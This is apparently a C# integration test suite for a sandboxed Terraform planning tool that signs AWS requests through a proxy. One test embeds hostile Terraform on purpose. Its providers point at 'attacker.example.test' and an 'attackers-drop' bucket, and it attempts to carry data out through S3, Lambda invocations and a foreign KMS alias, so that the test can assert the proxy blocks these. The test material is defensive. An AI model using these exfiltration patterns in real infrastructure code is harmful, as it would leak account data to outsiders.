using System.Net;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Text.Json;
using CliWrap;
using CliWrap.Buffered;
using McpInfra.Guardrails.Redaction;
using McpInfra.TestKit;
using McpInfra.Tools.Plans;
using McpInfra.Tools.Plans.Cloud;
using McpInfra.Tools.Plans.Cloud.Aws;
using McpInfra.Tools.Plans.Engines.Terraform;
using McpInfra.Tools.Plans.Engines.Terraform.Providers;
using McpInfra.Tools.Plans.State;
using McpInfra.Tools.Sandbox;
using McpInfra.Tools.Sandbox.Egress;
using Xunit;

namespace McpInfra.RealCloud;

/// <summary>The real AWS provider plans the estate through the signing proxy: it holds a dummy key, moto behind TLS hears only reviewed reads, signed with the real one.</summary>
[Collection(Estate.Name)]
public sealed class A_plan_by_the_signing_proxy(Estate estate) : IDisposable
{
    private const string RealKey = "AKIAREALREALREALREAL";
    private const string MotosSession = "AKIAIOSFODNN7EXAMPLE";

    private const string DataSources = """
        data "aws_caller_identity" "me" {}
        data "aws_iam_role" "web" { name = "payments-web" }
        data "aws_iam_policy" "read" { arn = aws_iam_policy.read.arn }
        data "aws_vpc" "main" { id = aws_vpc.main.id }
        data "aws_subnets" "all" {
          filter {
            name   = "vpc-id"
            values = [aws_vpc.main.id]
          }
        }
        data "aws_subnet" "public" { id = aws_subnet.public.id }
        data "aws_security_group" "web" { id = aws_security_group.tier["web"].id }
        data "aws_kms_key" "data" { key_id = "alias/payments-data" }
        data "aws_kms_alias" "data" { name = "alias/payments-data" }
        data "aws_s3_bucket" "invoices" { bucket = "payments-invoices" }
        data "aws_sqs_queue" "charges" { name = "payments-charges" }
        data "aws_dynamodb_table" "ledger" { name = "payments-ledger" }
        data "aws_lambda_function" "charge" { function_name = "payments-charge" }
        data "aws_instance" "web" { instance_id = aws_instance.web[0].id }
        """;

    private readonly string folder = Directory.CreateTempSubdirectory("governed-").FullName;

    [Theory]
    [InlineData(SandboxKind.Bubblewrap, false)]
    [InlineData(SandboxKind.Container, false)]
    [InlineData(SandboxKind.Container, true)]
    public async Task Finds_no_changes_and_then_the_expected_one_by_allowed_reads_alone(SandboxKind kind, bool imaged)
    {
        if (kind is SandboxKind.Container)
        {
            await Containers.ReadyAsync();
        }

        var image = imaged ? await ContainedImage.ReadyAsync() : null;
        await estate.ReadyAsync();
        await using var moto = await TlsMoto.StartAsync(estate.Endpoint);
        await PrepareAsync(moto, kind, image);
        var heard = new StringBuilder();
        await using var client = await RealClient.OverStdioAsync(
            ["serve", "--agent", "planner", "--config", Path.Combine(folder, "mcp-infra.yaml")], folder,
            new Dictionary<string, string?> { ["AWS_ACCESS_KEY_ID"] = RealKey, ["AWS_SECRET_ACCESS_KEY"] = "real-secret", ["SSL_CERT_FILE"] = Path.Combine(folder, "authority.pem") },
            errors: line => heard.AppendLine(line));

        if (kind is SandboxKind.Bubblewrap) // In a container the one change below says it too: everything else stays.
        {
            var unchanged = await PlanAsync(client, new { repository = "infra", stack = "." });
            Assert.True(unchanged.IsError is false, unchanged.Text);
            Assert.True(unchanged.Text.Contains("No resource would change", StringComparison.Ordinal), unchanged.Text);
            Assert.DoesNotContain(Estate.Secrets, secret => unchanged.Text.Contains(secret, StringComparison.Ordinal));
        }

        var changed = await PlanAsync(client, new { repository = "infra", stack = ".", edits = new[] { new { path = "storage.tf", find = "{ team = \"payments\" }", replace = "{ team = \"platform\" }" } } });
        Assert.True(changed.IsError is false, changed.Text);
        Assert.Contains("1 to update", changed.Text);
        Assert.Contains("aws_sqs_queue.charges", changed.Text);

        // A user's keys go out as a session that AWS holds to reads; IAM, which answers no such session, gets them themselves.
        AssertOnlyReads(moto, request => request.Authorization.Contains("/iam/aws4_request", StringComparison.Ordinal) ? RealKey : MotosSession);
        Assert.Contains(moto.Requests, request => request.Authorization.Contains(MotosSession, StringComparison.Ordinal));
        Assert.DoesNotContain(Estate.Secrets, secret => changed.Text.Contains(secret, StringComparison.Ordinal));
        var audit = string.Join('\n', Directory.EnumerateFiles(Path.Combine(folder, "state", "audit"), "*.jsonl").Select(Read));
        Assert.Contains("\"action\":\"DescribeVpcs\"", audit);
        Assert.DoesNotContain("real-secret", audit + heard);
    }

    [Fact]
    public async Task Leaves_nothing_at_the_endpoint_but_allowed_reads_whatever_the_code_tries()
    {
        await estate.ReadyAsync();
        await using var moto = await TlsMoto.StartAsync(estate.Endpoint);
        await using var attacker = await TlsServer.StartAsync(context => Task.CompletedTask, "attacker.example.test");
        var (dummy, real) = (new AwsKeys("AKIADUMMYDUMMYDUMMY0", "dummy-secret", "dummy-token"), new AwsKeys(RealKey, "real-secret"));
        var address = $"https://{moto.Endpoint}";
        var code = $$"""
            terraform {
              backend "s3" {
                bucket       = "attackers-drop"
                key          = "state"
                region       = "us-east-1"
                use_lockfile = true
                endpoints    = { s3 = "{{address}}", sts = "{{address}}" }
              }
            }
            {{Provider("", "", address)}}
            {{Provider("holder", $"access_key = \"{dummy.Id}\"\n  secret_key = \"dummy-secret\"\n  token = \"dummy-token\"", address)}}
            {{Provider("own", "access_key = \"AKIAATTACKERATTACKER\"\n  secret_key = \"attacker\"", address)}}
            {{Provider("elsewhere", "", $"https://attacker.example.test:{attacker.Port}")}}
            locals {
              loot = strrev("carried-away")
            }
            data "aws_sqs_queue" "allowed" {
              name = "payments-charges"
            }
            data "aws_s3_objects" "drop" {
              bucket = "attackers-drop"
              prefix = local.loot
            }
            data "aws_s3_objects" "by_holder" {
              provider = aws.holder
              bucket   = "attackers-drop"
              prefix   = local.loot
            }
            data "aws_s3_objects" "by_own" {
              provider = aws.own
              bucket   = "attackers-drop"
              prefix   = local.loot
            }
            data "aws_s3_objects" "elsewhere" {
              provider = aws.elsewhere
              bucket   = "attackers-drop"
              prefix   = local.loot
            }
            data "aws_s3_object" "content" {
              bucket = "payments-invoices"
              key    = local.loot
            }
            data "aws_lambda_invocation" "act" {
              function_name = "payments-charge"
              input         = jsonencode({ loot = local.loot })
            }
            data "aws_lambda_invocation" "act_as_holder" {
              provider      = aws.holder
              function_name = "payments-charge"
              input         = jsonencode({ loot = local.loot })
            }
            data "aws_kms_key" "of_the_attacker" {
              key_id = "arn:aws:kms:us-east-1:666666666666:alias/${local.loot}"
            }
            data "aws_sqs_queue" "of_the_attacker" {
              name = local.loot
            }
            """;
        var (outcome, reached) = await RunAsync(moto, dummy, real, code);

        Assert.Equal("plan", outcome.FailedStep);
        Assert.True(!moto.Requests.IsEmpty, Encoding.UTF8.GetString(outcome.Errors));
        AssertOnlyReads(moto, _ => RealKey + "/");

        // What was carried came no further than the account's own queues and buckets, whose trail is the account's.
        Assert.DoesNotContain(moto.Requests, request => request.Asked is not ("GetQueueUrl" or "HEAD /payments-invoices/yawa-deirrac") && (request.Target + request.Body).Contains("yawa-deirrac", StringComparison.Ordinal));
        Assert.DoesNotContain(moto.Requests, request => (request.Target + request.Body).Contains("attackers-drop", StringComparison.Ordinal));
        var refused = reached.Where(record => !record.Allowed).ToList();
        Assert.Contains(refused, record => record.Asked?.Action == "Invoke");
        Assert.Contains(refused, record => record.Reason.Contains("not this run's", StringComparison.Ordinal));
        Assert.Contains(refused, record => record.Reason.Contains("none of the account's", StringComparison.Ordinal));
        Assert.Contains(refused, record => record.Reason.Contains("another account", StringComparison.Ordinal));
        Assert.Contains(refused, record => record.Endpoint == $"attacker.example.test:{attacker.Port}");
    }

    public void Dispose() => Directory.Delete(folder, recursive: true);

    private static void AssertOnlyReads(TlsMoto moto, Func<HeardByMoto, string> key)
    {
        Assert.NotEmpty(moto.Requests);
        Assert.All(moto.Requests, request => Assert.Contains($"Credential={key(request)}", request.Authorization));
        Assert.All(moto.Requests, request => Assert.Matches("^(Describe|Get|List|GET |HEAD )", request.Asked));
        Assert.DoesNotContain(moto.Requests, request => request.Asked is "GetSecretValue" || request.Body.Contains("\"WithDecryption\":true", StringComparison.Ordinal));
    }

    private static string Provider(string alias, string keys, string endpoint) => $$"""
        provider "aws" {
          {{(alias.Length > 0 ? $"alias = \"{alias}\"" : "")}}
          {{keys}}
          region                      = "us-east-1"
          s3_use_path_style           = true
          skip_credentials_validation = true
          skip_metadata_api_check     = true
          skip_requesting_account_id  = true
          max_retries                 = 1
          endpoints {
            kms    = "{{endpoint}}"
            lambda = "{{endpoint}}"
            s3     = "{{endpoint}}"
            sqs    = "{{endpoint}}"
            sts    = "{{endpoint}}"
          }
        }
        """;

    private async Task<(TerraformOutcome Outcome, IReadOnlyList<EgressRecord> Reached)> RunAsync(TlsMoto moto, AwsKeys dummy, AwsKeys real, string code)
    {
        var sandbox = new Bubblewrap(OwnProgram.Locate());
        var readiness = await sandbox.ProbeAsync(TestContext.Current.CancellationToken);
        Assert.SkipUnless(readiness.Ready, $"needs bubblewrap: {readiness.Remedy}");
        Assert.True(Endpoint.TryParse(moto.Endpoint, out var endpoint));
        var gate = new AwsGate(dummy, new AwsUse(null, [endpoint]), (_, _) => new(real), new RunSecrets(new SecretTokens(new byte[32]), SanitizedState.Empty), TimeProvider.System);
        var program = TerraformProgram.Find(new EngineSettings(CliConfig: Terraform.In(folder).CliConfig));
        using var providers = new ProviderPackages(new PackageCache(Path.Combine(folder, "providers")));
        using var packages = await providers.OfAsync(
            program.Config, [new RequiredProvider(ProviderAddress.Parse("hashicorp/aws")!, [])], null, ProviderPackages.Platform(SandboxKind.Bubblewrap), TestContext.Current.CancellationToken);
        var input = new TerraformInput([("main.tf", () => Encoding.UTF8.GetBytes(code))], ".", "default", SanitizedState.Empty, [])
        {
            Packages = packages,
            Clouds = [new CloudAccess(gate, new Dictionary<string, string> { ["AWS_ACCESS_KEY_ID"] = dummy.Id, ["AWS_SECRET_ACCESS_KEY"] = "dummy-secret", ["AWS_SESSION_TOKEN"] = "dummy-token" })],
        };
        await using var proxy = EgressProxy.Start(outside: new Outside { Resolve = (_, _) => Task.FromResult<IPAddress[]>([IPAddress.Loopback]), Authorities = moto.Server.Authorities });
        await using var run = await TerraformRun.OpenAsync(sandbox, program, packages, proxy, new(), TestContext.Current.CancellationToken);
        return (await run.PlanAsync(input, TestContext.Current.CancellationToken), proxy.Records);
    }

    private async Task PrepareAsync(TlsMoto moto, SandboxKind kind, string? image)
    {
        foreach (var file in Directory.EnumerateFiles(estate.Folder, "*.tf", SearchOption.AllDirectories).Where(file => !file.Contains(".terraform", StringComparison.Ordinal)))
        {
            var target = Path.Combine(folder, "code", Path.GetRelativePath(estate.Folder, file));
            Directory.CreateDirectory(Path.GetDirectoryName(target)!);
            var code = (await File.ReadAllTextAsync(file, TestContext.Current.CancellationToken))
                .Replace("  access_key                  = \"testing\"\n", "", StringComparison.Ordinal).Replace("  secret_key                  = \"testing\"\n", "", StringComparison.Ordinal)
                .Replace("  type = string\n}\n\nprovider", $"  type    = string\n  default = \"https://{moto.Endpoint}\"\n}}\n\nprovider", StringComparison.Ordinal);
            await File.WriteAllTextAsync(target, code, TestContext.Current.CancellationToken);
        }

        await File.WriteAllTextAsync(Path.Combine(folder, "code", "data.tf"), DataSources, TestContext.Current.CancellationToken);
        string[][] steps = [["init", "-q", "-b", "main"], ["add", "-A"], ["-c", "user.name=Test", "-c", "user.email=test@example.com", "commit", "-q", "-m", "estate"]];
        foreach (var step in steps)
        {
            await Cli.Wrap(Skip.UnlessFound("git")).WithArguments(step).WithWorkingDirectory(Path.Combine(folder, "code")).ExecuteBufferedAsync(TestContext.Current.CancellationToken);
        }

        await File.WriteAllTextAsync(Path.Combine(folder, "authority.pem"), moto.Server.Authorities[0].ExportCertificatePem(), TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(Path.Combine(folder, "mcp-infra.yaml"), $$"""
            organization: acme
            sandbox: {{kind.ToString().ToLowerInvariant()}}
            {{(image is null ? "" : $"container: {{ image: \"{image}\" }}")}}
            store: { sqlite: ./state }
            repositories:
              - name: infra
                url: ./code
                forge: { kind: local }
                stacks:
                  - path: .
                    environment: prod
                    state: "{{estate.State}}"
                    credentials: { plan: { aws: { account: "123456789012", sts: "{{estate.Endpoint.GetLeftPart(UriPartial.Authority)}}", endpoints: ["{{moto.Endpoint}}"] } } }
            engines: { terraform: { cli_config: "{{Terraform.In(folder).CliConfig}}" } }
            """, TestContext.Current.CancellationToken);
    }

    private static async Task<ToolAnswer> PlanAsync(RealClient client, object arguments)
    {
        while (true)
        {
            var answer = await client.CallAsync("plan_change", arguments, structured: true, stop: TestContext.Current.CancellationToken);
            if (answer.Structured is not { ValueKind: JsonValueKind.Object } said || !said.TryGetProperty("status", out var status) || status.GetString() != "running")
            {
                return answer;
            }
        }
    }

    private static string Read(string file)
    {
        using var stream = new FileStream(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite);
        using var reader = new StreamReader(stream);
        return reader.ReadToEnd();
    }
}
